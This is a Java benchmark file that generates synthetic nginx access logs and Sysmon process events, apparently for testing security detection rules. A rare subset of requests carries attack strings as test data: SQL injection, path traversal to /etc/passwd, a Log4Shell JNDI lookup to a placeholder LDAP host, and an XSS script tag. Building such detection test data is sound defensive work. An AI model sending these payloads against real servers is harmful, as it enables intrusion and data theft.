package gac.bench;

import gac.bench.Programs.Program;
import gac.ingest.parse.Normalizer;
import gac.ingest.parse.event.LineContext;
import gac.ingest.parse.event.LineType;
import gac.schemas.Wire;
import gac.schemas.avro.Event;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Encoded events as ingest writes them, seeded. About one in a hundred is meant to catch a rule's eye. */
final class GeneratedEvents {
    private static final Instant START = Instant.parse("2026-11-22T00:00:00Z");
    private static final DateTimeFormatter NGINX_TIME =
            DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final List<String> PAGES = List.of(
            "/",
            "/tin-tuc/chi-tiet-#.html",
            "/api/v1/ho-so/#?page=#&size=20",
            "/static/css/main.#.css",
            "/anh/2026/#/anh-#.jpg",
            "/tim-kiem?q=dich+vu+cong+#",
            "/van-ban/quyet-dinh-#",
            "/login",
            "/wp-content/uploads/2026/11/bieu-mau-#.pdf",
            "/favicon.ico",
            "/thu-tuc?id=#&linh-vuc=%C4%91%E1%BA%A5t+%C4%91ai&trang=#",
            "/index.php?option=com_content&view=article&id=#");
    private static final List<String> ODD_PAGES = List.of(
            "/index.php?id=1%27%20union%20select%20#,2,3--",
            "/../../etc/passwd",
            "/?x=${jndi:ldap://198.51.100.#/a}",
            "/wp-login.php?action=#",
            "/?q=<script>alert(#)</script>",
            "/.git/config");
    private static final List<String> AGENTS = List.of(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
            "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)");
    private static final List<String> INTEGRITY = List.of("Medium", "System", "High");

    private final Words words;
    private int number;

    private GeneratedEvents(long seed) {
        words = new Words(seed);
    }

    /** Lines of an nginx access log through the parser. */
    static List<byte[]> webAccess(int count, long seed) {
        GeneratedEvents events = new GeneratedEvents(seed);
        return events.make(count, events::webAccess);
    }

    /** Process creations with the field names Windows gives them, all in {@code fields}. */
    static List<byte[]> processCreation(int count, long seed) {
        GeneratedEvents events = new GeneratedEvents(seed);
        return events.make(count, events::processCreation);
    }

    private List<byte[]> make(int count, Supplier<Event> event) {
        return Stream.generate(event).limit(count).map(Wire::encode).toList();
    }

    private Event webAccess() {
        String page = filled(words.oneIn(100) ? words.one(ODD_PAGES) : words.skewed(PAGES));
        String referrer = words.oneIn(2) ? "https://www.example.vn/" : "-";
        String line = "203.0.113." + words.below(256) + " - - [" + NGINX_TIME.format(now()) + "] \""
                + (words.oneIn(9) ? "POST " : "GET ") + page + " HTTP/1.1\" "
                + words.skewed(List.of(200, 304, 404, 302, 500)) + " "
                + words.below(90_000) + " \"" + referrer + "\" \"" + words.skewed(AGENTS) + "\"";
        return event(line, LineType.NGINX_ACCESS);
    }

    private Event processCreation() {
        Program program = words.skewed(Programs.ALL);
        Program parent = words.skewed(Programs.ALL);
        String odd = words.oneIn(100) ? " -" + words.word(2) + " C:\\Users\\Public\\" + words.word(3) + ".dll" : "";
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("EventID", "1");
        fields.put("Channel", "Microsoft-Windows-Sysmon/Operational");
        fields.put("Provider_Name", "Microsoft-Windows-Sysmon");
        fields.put("Computer", "pc" + words.below(500) + ".example.vn");
        fields.put("UtcTime", now().toString());
        fields.put("ProcessGuid", guid());
        fields.put("ProcessId", "" + words.below(30_000));
        fields.put("Image", program.path());
        fields.put("FileVersion", "10.0.19041.546 (WinBuild.160101.0800)");
        fields.put("Description", "Host Process for " + program.file());
        fields.put("Product", "Microsoft® Windows® Operating System");
        fields.put("Company", "Microsoft Corporation");
        fields.put("OriginalFileName", program.original());
        fields.put("CommandLine", commandLine(program) + odd);
        fields.put("CurrentDirectory", "C:\\Windows\\system32\\");
        fields.put("User", "EXAMPLE\\nv" + words.below(300));
        fields.put("LogonGuid", guid());
        fields.put("LogonId", "0x" + words.hex(5));
        fields.put("TerminalSessionId", "1");
        fields.put("IntegrityLevel", words.one(INTEGRITY));
        fields.put("Hashes", "MD5=" + words.hex(32) + ",SHA256=" + words.hex(64) + ",IMPHASH=" + words.hex(32));
        fields.put("ParentProcessGuid", guid());
        fields.put("ParentProcessId", "" + words.below(30_000));
        fields.put("ParentImage", parent.path());
        fields.put("ParentCommandLine", commandLine(parent));
        fields.put("ParentUser", "EXAMPLE\\nv" + words.below(300));
        Event event = event(json(fields), LineType.JSON);
        event.setFields(fields);
        return event;
    }

    private static String json(Map<String, String> fields) {
        return fields.entrySet().stream()
                .map(field -> "\"" + field.getKey() + "\":\""
                        + field.getValue().replace("\\", "\\\\").replace("\"", "\\\"") + "\"")
                .collect(Collectors.joining(",", "{", "}"));
    }

    private String commandLine(Program program) {
        return '"' + program.path() + '"' + filled(words.one(program.arguments()));
    }

    private String guid() {
        return "{" + words.hex(8) + "-" + words.hex(4) + "-" + words.hex(4) + "-" + words.hex(4) + "-" + words.hex(12)
                + "}";
    }

    private Event event(String line, LineType type) {
        String id = String.format("%032x", ++number);
        return new Normalizer().normalize(line, LineContext.offline(type, ZoneOffset.UTC, now(), id, null, -1));
    }

    private Instant now() {
        return START.plusMillis(37L * number);
    }

    private String filled(String template) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < template.length(); i++) {
            char c = template.charAt(i);
            if (c == '#') {
                text.append(words.below(10_000));
            } else {
                text.append(c);
            }
        }
        return text.toString();
    }
}
